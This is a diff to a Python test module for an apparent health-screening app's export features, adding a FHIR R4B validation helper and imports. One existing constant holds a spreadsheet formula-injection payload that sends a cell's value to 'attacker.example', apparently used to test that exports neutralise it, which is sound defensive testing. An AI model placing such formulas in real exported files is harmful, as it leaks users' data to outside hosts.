@@ -14,6 +14,7 @@ from typing import Any
 
 import pytest
 from fastapi.testclient import TestClient
+from fhir.resources.R4B.observation import Observation
 from sqlalchemy import insert
 from sqlmodel import Session, select
 
@@ -30,9 +31,11 @@ from app.sharing import consent as consents
 from app.sharing.schemas import ConsentCreate
 from instruments.loader import BUNDLED_DIR, Registry, load_registry
 from tests.app.conftest import World
+from tests.app.fhir_support import MODELS
 
 MINI = "export-mini"
 PRACTITIONER = "tellonce-practitioner-indicators"
+BRIEF = "tellonce-brief-screen"
 HYPERLINK = '=HYPERLINK("http://attacker.example/?x="&A1,"Open")'
 ALL = [c.value for c in Category]
 TODAY = utcnow().date()  # exports select by UTC completion date
@@ -155,6 +158,16 @@ def make_scene(world: World, registry: Registry) -> Scene:
     return Scene(
         db, keys, registry, a, b, c, world.user(a, "supervisor"), screener, world.user(a, "agency_admin"), youth
     )
+
+
+def validate_fhir(resource: dict[str, Any]) -> Any:
+    """Validate with the fhir.resources R4B models (a Bundle's entries, and the result's Observation, too)."""
+    if resource["resourceType"] == "Observation":
+        return Observation.model_validate(resource)
+    if resource["resourceType"] == "Bundle":
+        for entry in resource.get("entry", []):
+            validate_fhir(entry["resource"])
+    return MODELS[resource["resourceType"]].model_validate(resource)
 
 
 def parse(text: str) -> list[dict[str, str]]:
